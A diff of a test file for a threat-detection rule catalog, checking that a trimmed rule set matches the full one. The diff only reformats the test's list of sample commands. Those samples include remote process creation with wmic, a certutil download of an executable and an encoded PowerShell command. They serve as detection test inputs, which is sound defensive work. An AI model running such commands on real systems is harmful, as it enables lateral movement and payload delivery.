@@ -17,7 +17,11 @@ describe("tester rules payload", () => {
   const lean = compileCatalog(fromTesterRules(JSON.parse(JSON.stringify(rows))))
 
   it("gives the same report as the full catalog", () => {
-    for (const cmd of ["wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"", "certutil -urlcache -f http://x/a.exe a.exe", "powershell -enc AAAA"]) {
+    for (const cmd of [
+      'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"',
+      "certutil -urlcache -f http://x/a.exe a.exe",
+      "powershell -enc AAAA",
+    ]) {
       const built = buildProcessEvents({ cmd, parent: "cmd.exe", user: "bob", host: "ws1" })
       expect(strip(matchEvent(lean, { built }))).toEqual(strip(matchEvent(full, { built })))
     }
@@ -31,7 +35,8 @@ describe("tester rules payload", () => {
   it("stays lean: no rule text travels", () => {
     const json = JSON.stringify(rows)
     expect(json).not.toContain("how_to_implement")
-    for (const r of rows) expect((r.analysis?.detail as { expanded?: string } | undefined)?.expanded?.length ?? 0).toBeLessThan(12)
+    for (const r of rows)
+      expect((r.analysis?.detail as { expanded?: string } | undefined)?.expanded?.length ?? 0).toBeLessThan(12)
   })
 })
 
